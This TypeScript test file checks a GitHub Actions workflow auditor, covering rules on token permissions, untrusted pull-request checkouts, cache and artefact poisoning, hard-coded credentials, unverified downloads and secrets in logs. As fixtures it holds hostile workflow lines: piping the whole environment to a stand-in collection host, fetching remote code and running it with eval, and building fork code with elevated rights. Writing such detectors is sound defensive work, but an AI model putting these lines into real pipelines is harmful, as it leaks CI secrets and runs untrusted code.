import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CI_RULES } from '../../../src/audit/rules/ci/index.ts';
import { readFacts } from '../../../src/facts/index.ts';
import type { FindingDraft } from '../../../src/findings/index.ts';
import { loadReaders } from '../../../src/syntax/index.ts';
import { memoryTree } from '../../support/memory-tree.ts';

const readers = await loadReaders();

const HEAD = `\${{ github.event.pull_request.head.sha }}`;

function workflow(on: string, steps: string, job = ''): string {
  return `on: ${on}\npermissions: {}\njobs:\n  work:\n    runs-on: ubuntu-24.04\n${job}    steps:\n${steps.replaceAll(/^(?=.)/gm, '      ')}\n`;
}

function check(rule: string, text: string): readonly FindingDraft[] {
  const found = CI_RULES.find(({ id }) => id === rule);
  const facts = readFacts(memoryTree({ '.github/workflows/work.yml': text }), readers);
  return found === undefined ? [] : [...found.check(facts, { today: '2026-11-21' })];
}

function reported(rule: string, text: string): readonly string[] {
  return check(rule, text).map(({ place, severity }) => `${severity} ${text.slice(place.span.start, place.span.end)}`);
}

describe('CI003 rights that nobody asked for', () => {
  const fixes = (steps: string) => {
    const text = workflow('push', steps).replace('permissions: {}\n', '');
    return check('CI003', text).map((draft) => draft.fixes?.length ?? 0);
  };
  it('are taken away where every step only reads', () => {
    assert.deepEqual(fixes('- uses: actions/checkout@v4\n- uses: actions/setup-node@v4\n- run: npm test'), [1]);
  });
  for (const step of [
    '- run: gh release upload v1 app.jar\n  env: { GH_TOKEN: "${{ github.token }}" }',
    '- run: git push origin HEAD',
    '- uses: github/codeql-action/analyze@v3',
    '- uses: actions/stale@v9',
    '- uses: acme/publish-report@v1',
  ])
    it(`stay for a person to name where a step may need more: ${step.split('\n')[0]}`, () => {
      assert.deepEqual(fixes(step), [0]);
    });
});

describe('CI021 a token that the checkout leaves', () => {
  const fixes = (step: string) =>
    check('CI021', workflow('push', `- uses: actions/checkout@v4\n${step}`)).map(
      ({ fixes: offered }) => offered?.length,
    );
  for (const step of [
    '- run: git push --tags',
    '- run: npx lerna publish from-git --yes',
    '- run: pnpm exec changeset publish',
    '- run: npx --yes semantic-release@24',
    '- run: yarn release-it --ci',
    '- run: npx --no-install @changesets/cli publish',
    '- uses: changesets/action@v1\n  with: { publish: pnpm release }',
    '- uses: cycjimmy/semantic-release-action@v4',
  ])
    it(`stays where a later step pushes a tag with it: ${step.split('\n')[0]}`, () => {
      assert.deepEqual(fixes(step), [0]);
    });
  for (const step of ['- run: npm publish', '- run: npx lerna run build', '- run: npx changeset status', '- run: make'])
    it(`can go where nobody pushes: ${step}`, () => {
      assert.deepEqual(fixes(step), [1]);
    });
});

describe('CI005 untrusted checkout', () => {
  const build = (version: string, more = '') =>
    workflow(
      'pull_request_target',
      `- uses: actions/checkout@${version}\n  with:\n    ref: ${HEAD}\n${more}- run: make`,
    );
  it('knows that version 7 of the checkout refuses forks', () => {
    assert.equal(check('CI005', build('v6')).length, 1);
    assert.equal(check('CI005', build('v7')).length, 0);
    assert.equal(check('CI005', build('v7', '    allow-unsafe-pr-checkout: true\n')).length, 1);
  });
  it('is less sure of a ref that only an output names', () => {
    const ref = (output: string) =>
      workflow(
        'issue_comment',
        `- uses: actions/checkout@v4\n  with: { ref: "\${{ steps.a.outputs.${output} }}" }\n- run: make`,
      );
    assert.deepEqual(reported('CI005', ref('pull_commit')), ['high make']);
    assert.deepEqual(reported('CI005', ref('version')), []);
  });
  const CHECKOUT = '- uses: actions/checkout@v4\n';
  const head = (path?: string) =>
    `- uses: actions/checkout@v4\n  with: { ref: "${HEAD}"${path === undefined ? '' : `, path: "${path}"`} }\n`;
  const beside = (steps: string) => workflow('pull_request_target', `${CHECKOUT}${head('pr')}${steps}`);
  const inside = (steps: string) =>
    workflow('pull_request_target', `${head()}- uses: actions/checkout@v4\n  with: { path: base }\n${steps}`);
  for (const [what, text] of [
    ['goes there', beside('- run: cd pr && npm test')],
    ['works there', beside('- run: npm test\n  working-directory: ./pr/app')],
    ['names it in an option', beside('- run: npm --prefix=pr test')],
    ['names it in a variable', beside('- run: make -C "$DIR"\n  env: { DIR: pr }')],
    ['uses an action of it', beside('- uses: ./pr/action')],
    ['comes after one that moved files out of it', beside('- run: cp -r pr/. .\n- run: npm test')],
    ['works beside the folder of the base', inside('- run: npm test')],
    ['leaves the folder of the base', inside('- run: cd .. && npm test\n  working-directory: base')],
  ] as const)
    it(`finds a step that ${what}, where the head has a folder of its own or the base has`, () =>
      assert.equal(check('CI005', text).length, 1));
  for (const [what, text] of [
    ['works in the base', beside('- run: npm test')],
    ['only has a longer name in it', beside('- run: npm run pr-title')],
    ['copies something else', beside('- run: cp -r docs/. .\n- run: npm test')],
    ['works in the folder of the base', inside('- run: npm test\n  working-directory: base')],
  ] as const)
    it(`lets a step through that ${what}`, () => assert.deepEqual(check('CI005', text), []));
  it('names every step that runs the tree', () => {
    const text = workflow(
      'pull_request_target',
      `- uses: actions/checkout@v4\n  with: { ref: "${HEAD}" }\n- run: make\n- run: npm test`,
    );
    assert.deepEqual(
      check('CI005', text).flatMap(({ related }) =>
        (related ?? []).map(({ place }) => text.slice(place.span.start, place.span.end)),
      ),
      ['actions/checkout@v4', 'npm test'],
    );
  });
});

describe('CI007 cache poisoning', () => {
  const cached = (on: string, ref: string) =>
    workflow(on, `- uses: actions/checkout@v4\n${ref}- uses: actions/cache@v4\n  with: { path: a, key: b }`);
  it('reports a cache of the default branch beside code of a pull request', () => {
    assert.equal(check('CI007', cached('pull_request_target', `  with: { ref: "${HEAD}" }\n`))[0]?.severity, 'high');
    assert.deepEqual(check('CI007', cached('pull_request_target', '')), []);
    assert.deepEqual(check('CI007', cached('pull_request', `  with: { ref: "${HEAD}" }\n`)), []);
  });
});

describe('CI008 artefact poisoning', () => {
  const download = (path: string, run: string) =>
    workflow(
      '{ workflow_run: { workflows: [a], types: [completed] } }',
      `- uses: dawidd6/action-download-artifact@v6\n  with: { path: "${path}" }\n- run: ${run}`,
    );
  it('is quiet where the files lie outside the work tree and nothing names them', () => {
    assert.equal(check('CI008', download('.', 'bash ./report.sh'))[0]?.severity, 'high');
    assert.equal(check('CI008', download('/tmp/result', 'bash ./report.sh'))[0]?.severity, 'low');
    assert.equal(check('CI008', download('/tmp/result', 'bash /tmp/result/report.sh'))[0]?.severity, 'high');
  });
});

describe('CI011 literal credentials', () => {
  const given = (name: string, value: string) =>
    workflow('push', '- run: make', `    env:\n      ${name}: "${value}"\n`);
  it('reports a mixed value under the name of a credential', () => {
    assert.deepEqual(reported('CI011', given('API_TOKEN', 'b7Qd93kfPz01Lm5Tx8Va')), ['medium "b7Qd93kfPz01Lm5Tx8Va"']);
  });
  for (const [name, value] of [
    ['POSTGRES_PASSWORD', 'postgres'],
    ['API_TOKEN', 'this-is-only-a-test-1234'],
    ['BUILD_ID', 'b7Qd93kfPz01Lm5Tx8Va'],
    ['API_TOKEN', `\${{ secrets.API_TOKEN }}`],
  ] as const) {
    it(`is silent on ${name}: ${value}`, () => {
      assert.deepEqual(reported('CI011', given(name, value)), []);
    });
  }
});

describe('CI020 downloads', () => {
  const fetched = (host: string, more: string) =>
    workflow(
      'push',
      `- run: |\n    curl -fLo tool https://${host}/tool\n    curl -fLo tool.sha256 https://${host}/tool.sha256\n    ${more}\n    sha256sum --check tool.sha256\n    ./tool`,
    );
  it('does not take a sum from the same server for a check', () => {
    assert.equal(check('CI020', fetched('get.example.test', 'true')).length, 1);
    assert.equal(check('CI020', fetched('get.example.test', `echo ${'a'.repeat(64)}`)).length, 0);
  });
  it('reports what is fetched and evaluated', () => {
    const text = workflow('push', '- run: |\n    CODE=$(curl https://get.example.test)\n    eval "$CODE"');
    assert.deepEqual(reported('CI020', text), ['low "$CODE"']);
  });
});

describe('CI022 secrets in the log', () => {
  const script = (lines: string) =>
    workflow('push', `- run: |\n${lines.replaceAll(/^/gm, '    ')}\n  env: { KEY: "\${{ secrets.KEY }}" }`);
  it('reports a value that was made from a secret, and the secret itself', () => {
    assert.deepEqual(reported('CI022', script('PART="${KEY:0:8}"\necho "$PART"')), ['low "$PART"']);
    assert.deepEqual(reported('CI022', script('echo "$KEY"')), ['low "$KEY"']);
    assert.deepEqual(reported('CI022', script('show() { echo "$1"; }\nshow "$KEY"')), ['low "$KEY"']);
  });
  for (const lines of [
    'echo "$KEY" > key.txt',
    'echo "$KEY" | sha256sum --check',
    './deploy.sh "$KEY"',
    'A=$(echo "$KEY")',
  ]) {
    it(`is silent on ${lines}`, () => {
      assert.deepEqual(reported('CI022', script(lines)), []);
    });
  }
});

describe('CI026 tokens of applications', () => {
  const made = (inputs: string) =>
    workflow('push', `- uses: actions/create-github-app-token@v2\n  with: { app-id: "1", private-key: k, ${inputs} }`);
  for (const [inputs, count] of [
    ['permission-contents: read', 0],
    ['owner: acme, permission-contents: read', 1],
    ['owner: acme, repositories: app, permission-contents: read', 0],
    ['owner: acme, permission-members: read', 0],
    ['permission-contents: read, skip-token-revoke: true', 1],
    ['repositories: app', 1],
  ] as const) {
    it(`counts ${count} for ${inputs}`, () => {
      assert.equal(check('CI026', made(inputs)).length, count);
    });
  }
});

describe('CI032 the environment sent elsewhere', () => {
  for (const [run, count] of [
    ['env | curl -d @- https://collect.example.test', 1],
    ['curl -d "$(printenv | base64)" https://collect.example.test', 1],
    ['A=$(env)\n    curl -d "$A" https://collect.example.test', 1],
    ['env | sort\n    curl https://get.example.test', 0],
    ['env CI=1 curl https://get.example.test', 0],
  ] as const) {
    it(`counts ${count} for ${run}`, () => {
      assert.equal(check('CI032', workflow('push', `- run: |\n    ${run}`)).length, count);
    });
  }
});
